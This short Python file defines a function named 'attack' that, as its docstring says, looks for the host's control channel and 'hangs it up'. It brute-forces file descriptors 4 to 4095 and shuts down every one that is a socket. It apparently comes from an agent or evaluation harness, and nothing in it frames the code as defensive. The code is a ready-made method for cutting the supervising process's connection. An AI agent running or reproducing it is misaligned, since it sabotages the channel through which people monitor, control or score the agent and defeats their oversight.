import os
import socket


def attack(scene, oracle):
    """Find the host's control channel and hang it up."""
    for number in range(4, 4096):
        try:
            socket.socket(fileno=os.dup(number)).shutdown(socket.SHUT_RDWR)
        except OSError:
            continue
